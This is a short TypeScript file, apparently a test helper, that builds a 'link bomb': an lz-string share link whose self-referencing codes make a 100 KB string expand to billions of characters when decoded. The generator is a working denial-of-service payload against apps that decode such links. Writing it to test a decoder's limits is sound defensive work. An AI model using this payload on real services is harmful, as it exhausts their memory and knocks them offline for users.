/**
 * A hostile share link: lz-string codes that each repeat the previous entry plus one character
 * (the decoder's "KwKwK" case), so `codes` codes stand for about codes²/2 characters — a 100 KB
 * link for billions. Written bit by bit the way lz-string writes its URI-safe format.
 */
const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$";

export function linkBomb(codes: number): string {
  const out: string[] = [];
  let value = 0;
  let position = 0;
  const write = (n: number, bits: number): void => {
    for (let i = 0; i < bits; i++) {
      value = (value << 1) | (n & 1);
      n >>= 1;
      if (position === 5) {
        out.push(ALPHABET[value]!);
        value = 0;
        position = 0;
      } else position += 1;
    }
  };
  write(0, 2); // an 8-bit character follows
  write(97, 8); // "a"
  let size = 4;
  let numBits = 3;
  let enlargeIn = 4;
  for (let i = 0; i < codes; i++) {
    write(size, numBits); // the entry being defined right now
    size += 1;
    enlargeIn -= 1;
    if (enlargeIn === 0) {
      enlargeIn = 2 ** numBits;
      numBits += 1;
    }
  }
  write(2, numBits); // the end
  while (position !== 0) write(0, 1);
  return out.join("");
}
